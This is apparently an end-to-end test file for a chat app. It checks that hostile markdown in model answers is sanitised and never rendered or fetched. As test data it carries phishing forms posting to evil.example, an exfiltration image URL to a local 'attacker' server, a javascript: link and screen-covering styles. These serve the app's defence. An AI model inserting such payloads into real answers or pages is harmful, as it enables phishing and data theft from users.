"""Content from the model in a real browser (issue 7, items 7-9): remote images are never
fetched, hostile markup never appears (live, once done, after a reload), the live
renderer applies the same allow-list as the server's, and the Content-Security-Policy
lets the app, its admin and its diagnostics page work without a single violation.

The fixtures (browser, app, upstream, admin_page) are tests/e2e/conftest.py's; the fake
upstream's demo reply quotes the user's message, which is how these tests make the
"model" write hostile markdown.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from playwright.sync_api import expect

from conversations.markdown import render
from tests.e2e.browsing import USERNAME, close_page, open_page
from tests.servers import Daphne, manage

pytestmark = pytest.mark.e2e

# Elements and attributes the answer must never contain, whichever renderer made it.
FORBIDDEN = (
    ".markdown img, .markdown form, .markdown input, .markdown button, .markdown textarea,"
    " .markdown [style], .markdown .callout-error, .markdown .toast"
)

# Installed before any page script: remembers every forbidden element that ever appears
# in a message, however briefly (a live rendering lasts one animation frame).
WATCH_SCRIPT = (
    """
window.__forbidden = [];
window.__liveMath = false;
new MutationObserver(() => {
  if (document.querySelector(".msg-assistant.is-streaming .markdown .katex")) {
    window.__liveMath = true;
  }
  for (const el of document.querySelectorAll(SELECTOR)) {
    if (el.closest(".code-head")) continue;  // the app's own Copy button
    window.__forbidden.push(el.outerHTML.slice(0, 200));
  }
}).observe(document, { childList: true, subtree: true, attributes: true });
"""
).replace("SELECTOR", repr(FORBIDDEN))


class Counter:
    """A web server on 127.0.0.1 that counts the requests it gets (the attacker's host)."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        counter = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                counter.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def attacker() -> Iterator[Counter]:
    counter = Counter()
    yield counter
    counter.close()


# Parsing a style attribute, even in DOMPurify's inert document, is reported as a blocked
# inline style: the policy doing its job on hostile input, which the tests below expect.
BLOCKED_STYLE = "Applying inline style violates"


@pytest.fixture
def page(browser: Any, app: Daphne) -> Iterator[Any]:
    """A signed-in page that remembers every forbidden element (WATCH_SCRIPT); a CSP
    violation or an uncaught script error fails the test."""
    page = open_page(browser, app, init_script=WATCH_SCRIPT, reuse_session=True)
    yield page
    close_page(page, app, ignore=(BLOCKED_STYLE,) if getattr(page, "hostile_styles", False) else ())


def start_chat(page: Any, text: str) -> None:
    page.goto("/")
    page.fill("#composer-text", text)
    page.keyboard.press("Enter")
    page.wait_for_url("**/c/*/")
    expect(page.locator('.msg-assistant[data-status="done"]')).to_have_count(1)


def forbidden_seen(page: Any) -> list[str]:
    return list(page.evaluate("() => window.__forbidden"))


def test_a_remote_image_in_an_answer_is_a_link_and_never_fetched(
    page: Any, attacker: Counter
) -> None:
    start_chat(page, f"Look ![tracker]({attacker.url}/exfil?d=secret) here")

    link = page.locator(".msg-assistant .markdown a.remote-image")
    expect(link).to_have_text("tracker")
    expect(link).to_have_attribute("href", f"{attacker.url}/exfil?d=secret")
    assert forbidden_seen(page) == []  # not even for one frame while streaming

    page.reload()
    expect(page.locator(".msg-assistant .markdown a.remote-image")).to_have_text("tracker")
    page.wait_for_load_state("networkidle")
    assert forbidden_seen(page) == []
    assert attacker.paths == []


def test_hostile_markup_never_appears_live_done_or_after_reload(
    page: Any, attacker: Counter
) -> None:
    page.hostile_styles = True
    start_chat(
        page,
        f'<form action="{attacker.url}/p">Session expired <input name="password">'
        '<button>Sign in</button></form> <b style="position:fixed;inset:0" '
        'class="callout-error">Answer failed</b>',
    )
    markdown = page.locator(".msg-assistant .markdown")
    expect(markdown).to_contain_text("Session expired")
    expect(markdown).to_contain_text("Answer failed")
    assert forbidden_seen(page) == []

    page.reload()
    expect(page.locator(".msg-assistant .markdown")).to_contain_text("Answer failed")
    assert forbidden_seen(page) == []
    assert attacker.paths == []


# The live renderer, called directly in the page: (markdown, what must not survive).
HOSTILE = [
    ('<form action="https://evil.example"><input name="p" type="password"></form>', "form"),
    ('<div style="position:fixed;inset:0">cover</div>', "[style]"),
    ('<div class="callout-error">Answer failed</div>', ".callout-error"),
    ("![x](https://evil.example/pixel.gif)", "img"),
    ("<textarea>secret</textarea><select><option>a</option></select>", "textarea, select"),
    ('<a href="javascript:alert(1)">x</a>', "[href^=javascript]"),
    ('<span data-x="1" aria-label="y" id="z">t</span>', "[data-x], [aria-label], [id]"),
]

STRUCTURE_JS = """
(html) => {
  const walk = (node) => [...node.childNodes].flatMap((child) => {
    if (child.nodeType === Node.TEXT_NODE) {
      const text = child.textContent.replace(/\\s+/g, " ").trim();
      return text ? [text] : [];
    }
    if (child.nodeType !== Node.ELEMENT_NODE) return [];
    // An empty paragraph shows nothing (Python-Markdown leaves one where a dropped
    // element stood; marked does not).
    if (child.localName === "p" && !child.hasChildNodes()) return [];
    const attrs = Object.fromEntries([...child.attributes].map((a) => [a.name, a.value]));
    return [[child.localName, attrs, walk(child)]];
  });
  const template = document.createElement("template");
  template.innerHTML = html;
  return walk(template.content);
}
"""


def renderers(page: Any, text: str) -> dict[str, Any]:
    """The live rendering of `text`, and the server's HTML as the browser shows it."""
    return dict(
        page.evaluate(
            """async ({ text, server }) => {
                const { renderMarkdown, sanitizeHtml } = await import("chatweb/render.js");
                return { live: renderMarkdown(text), server: sanitizeHtml(server) };
            }""",
            {"text": text, "server": render(text)},
        )
    )


@pytest.mark.parametrize(("text", "selector"), HOSTILE)
def test_the_live_renderer_allows_what_the_server_allows(
    page: Any, text: str, selector: str
) -> None:
    page.hostile_styles = True
    result = renderers(page, text)

    for html in (result["live"], result["server"]):
        found = page.evaluate(
            """([html, selector]) => {
                const template = document.createElement("template");
                template.innerHTML = html;
                return template.content.querySelectorAll(selector).length;
            }""",
            [html, selector],
        )
        assert found == 0, html
    assert page.evaluate(STRUCTURE_JS, result["live"]) == page.evaluate(
        STRUCTURE_JS, result["server"]
    )


def test_the_admin_works_under_the_policy(admin_page: Any) -> None:
    page = admin_page
    page.goto("/admin/")
    expect(page.locator("#site-name")).to_be_visible()
    page.goto("/admin/auth/user/")
    # actions.js runs: "select all" ticks every row and counts them.
    page.click("#action-toggle")
    expect(page.locator(".action-counter")).to_contain_text("2 of 2 selected")
    page.goto("/admin/auth/user/add/")
    expect(page.locator("#id_username")).to_be_visible()
    page.goto("/admin/conversations/conversation/")
    expect(page.locator("#changelist")).to_be_visible()


def test_the_diagnostics_page_runs_under_the_policy(admin_page: Any) -> None:
    page = admin_page
    page.goto("/admin-tools/diagnostics/")

    for channel in ("websocket", "http"):
        verdict = page.locator(f'[data-channel="{channel}"] [data-verdict]')
        expect(verdict).not_to_have_attribute("data-state", "running", timeout=30_000)
        expect(verdict).not_to_have_attribute("data-state", "failed")


# --- Parity: the stored rendering matches the live one (issue 8, item 1) --------------

CORPUS = """# A heading

## Second level with `code` and **bold**

Plain text with *emphasis*, **strong**, ~~struck~~ and `inline code`; a ~single~ tilde.
Line two of the same paragraph.

- item one
- item two
   - nested by three spaces
   - another
      - deeper still
- item three
  - nested by two

1. first
2. second
   1. nested ordered
3. third

3. starts at three
4. four

- [ ] a task to do
- [x] a task done
- [X] also done

| Left | Centre | Right |
| :--- | :----: | ----: |
| a | b | c |
| 1 | **2** | `3` |

Bare links: https://example.com/path?q=1&r=2 and www.example.org/page, and
[a titled link](https://example.com "Title").

```python
def greet(name: str) -> str:
    return f"Hello, {name}!"
```

```
no language here
```

```js
const a = 1 < 2 && 3 > 2;
```

HTML-looking text: use a <div> here, 1 < 2 > 0, a & b, &copy; and <b>bold</b>.

Math inline $E = mc^2$ and \\(a_1 + b^2\\); a price of $5 stays text.

$$
\\int_0^1 x^2 \\, dx = \\frac{1}{3}
$$

\\[
\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}
\\]

> A quote with **strong** text
> over two lines.

---

中文段落，包含**粗体**和*斜体*，还有`代码`。日本語のテキスト。한국어 문장.
"""  # noqa: RUF001  (CJK punctuation on purpose)

PARITY_JS = """
(html) => {
  const template = document.createElement("template");
  template.innerHTML = html;
  const lang = (el) =>
    [...(el?.classList ?? [])].find((c) => c.startsWith("language-"))?.slice(9) ?? "";
  const walk = (node) => [...node.childNodes].flatMap((child) => {
    if (child.nodeType === Node.TEXT_NODE) {
      const text = child.textContent.replace(/\\s+/g, " ").trim();
      return text ? [text] : [];
    }
    if (child.nodeType !== Node.ELEMENT_NODE) return [];
    // A code block: the server's <div class="language-x codehilite"> (Pygments spans
    // inside) and marked's <pre><code class="language-x"> are the same block.
    if (child.matches("div.codehilite")) {
      return [["code-block", lang(child), child.textContent.trimEnd()]];
    }
    if (child.localName === "pre") {
      return [["code-block", lang(child.querySelector("code")), child.textContent.trimEnd()]];
    }
    if (child.localName === "p" && !child.hasChildNodes()) return [];
    const attrs = Object.fromEntries([...child.attributes].map((a) => [a.name, a.value]));
    return [[child.localName, attrs, walk(child)]];
  });
  return walk(template.content);
}
"""


def test_the_stored_rendering_has_the_live_renderings_structure(page: Any) -> None:
    result = renderers(page, CORPUS)

    live = page.evaluate(PARITY_JS, result["live"])
    server = page.evaluate(PARITY_JS, result["server"])
    flat = json.dumps(server, ensure_ascii=False)
    # The corpus really exercises what used to differ.
    for needle in (
        '"arithmatex"',
        '"del"',
        '"task-box task-done"',
        '"http://www.example.org/page"',
        '["code-block", "python"',
        '["code-block", "text"',
        '"align": "center"',
    ):
        assert needle in flat, needle
    assert server == live


def test_a_code_blocks_language_label_survives_the_end_and_a_reload(page: Any) -> None:
    start_chat(page, "Show me a function")
    label = page.locator(".msg-assistant .code-block .code-lang")
    expect(label).to_have_text("python")

    page.reload()

    expect(page.locator(".msg-assistant .code-block .code-lang")).to_have_text("python")


def test_math_is_typeset_live_and_after_a_reload(page: Any) -> None:
    start_chat(page, r"Energy $E = mc^2$ and \(\frac{a}{b}\)")
    math = page.locator(".msg-assistant .markdown .arithmatex .katex")
    expect(math).to_have_count(2)
    assert page.evaluate("() => window.__liveMath"), "no math typeset while streaming"
    expect(page.locator(".msg-assistant .arithmatex").first).to_have_attribute(
        "data-tex", "E = mc^2"
    )

    page.reload()

    expect(page.locator(".msg-assistant .markdown .arithmatex .katex")).to_have_count(2)
    # KaTeX's fonts come from this origin (the policy allows no other).
    loaded = page.evaluate(
        "async () => (await document.fonts.load('1em KaTeX_Main')).map((f) => f.status)"
    )
    assert loaded == ["loaded"]


MERMAID = "```mermaid\ngraph TD\n  A[Question] --> B{Known?}\n  B -->|yes| C[Answer]\n```\n"


def stored_answer(app: Daphne, text: str) -> int:
    """A conversation of USERNAME's whose answer is `text`, rendered as the server does."""
    output = manage(
        app.env,
        "shell",
        "-c",
        "from django.contrib.auth import get_user_model; "
        "from conversations.models import Conversation, Message; "
        "from conversations.markdown import render; "
        f"u = get_user_model().objects.get(username={USERNAME!r}); "
        "c = Conversation.objects.create(user=u, title='Diagram', model='fake-model'); "
        "q = Message.objects.create(conversation=c, role='user', content='Draw it'); "
        f"a = Message.objects.create(conversation=c, role='assistant', parent=q, "
        f"content={text!r}, html=render({text!r})); "
        "c.current_leaf = a; c.save(); print(c.pk)",
    )
    return int(output.strip().splitlines()[-1])


def test_a_mermaid_block_is_drawn_in_a_sandboxed_frame_with_its_source_viewable(
    page: Any, app: Daphne
) -> None:
    pk = stored_answer(app, MERMAID)
    page.goto(f"/c/{pk}/")

    block = page.locator('.msg-assistant .code-block[data-diagram="drawn"]')
    expect(block).to_have_count(1)
    frame = block.locator("iframe.diagram-frame")
    expect(frame).to_have_attribute("sandbox", "allow-scripts")
    svg = page.frame_locator(".diagram-frame").locator("svg")
    expect(svg).to_be_visible()
    expect(svg).to_contain_text("Question")
    assert int(frame.evaluate("f => f.getBoundingClientRect().height")) > 100
    # The frame cannot reach the app: its origin is opaque.
    origin = page.frames[-1].evaluate("() => window.origin")
    assert origin == "null"

    toggle = block.locator(".diagram-toggle")
    toggle.click()
    expect(block.locator("pre")).to_contain_text("A[Question] --> B{Known?}")
    expect(frame).to_be_hidden()
    toggle.click()
    expect(frame).to_be_visible()


def test_the_live_renderers_mermaid_block_is_drawn_too(page: Any) -> None:
    page.goto("/")
    state = page.evaluate(
        """async (text) => {
            const { renderMarkdown } = await import("chatweb/render.js");
            const { enhanceCodeBlocks } = await import("chatweb/code-copy.js");
            const { renderDiagrams } = await import("chatweb/diagrams.js");
            const body = document.createElement("div");
            body.className = "markdown";
            body.innerHTML = renderMarkdown(text);
            document.querySelector("#messages").append(body);
            enhanceCodeBlocks(body);
            renderDiagrams(body);
            return body.querySelector(".code-block").dataset.diagram;
        }""",
        MERMAID,
    )
    assert state == "loading"
    expect(page.locator('.code-block[data-diagram="drawn"]')).to_have_count(1)
    expect(page.frame_locator(".diagram-frame").locator("svg")).to_contain_text("Answer")


def test_the_vendored_math_and_diagram_libraries_are_served_with_their_licences(
    app: Daphne,
) -> None:
    for path in (
        "/static/vendor/katex/katex.mjs",
        "/static/vendor/katex/katex.min.css",
        "/static/vendor/katex/fonts/KaTeX_Main-Regular.woff2",
        "/static/vendor/katex/LICENSE",
        "/static/vendor/mermaid/mermaid.min.js",
        "/static/vendor/mermaid/LICENSE",
        "/static/render-policy.json",
    ):
        response = httpx.get(app.url + path, timeout=10)
        assert response.status_code == 200, path
    policy = httpx.get(app.url + "/static/render-policy.json", timeout=10)
    # Browsers import a JSON module only with a JSON type.
    assert policy.headers["content-type"].startswith("application/json")


def test_an_answer_the_sanitizer_empties_shows_its_text_escaped(page: Any, app: Daphne) -> None:
    # A form-only answer: nh3 leaves nothing; the page must not render the text itself
    # (that fallback made a working phishing form).
    text = '<form action="https://evil.example"><input name="password"></form>'
    assert render(text) == ""
    pk = stored_answer(app, text)

    page.goto(f"/c/{pk}/")

    markdown = page.locator(".msg-assistant .markdown")
    expect(markdown).to_contain_text('<input name="password">')
    assert markdown.locator("form, input").count() == 0
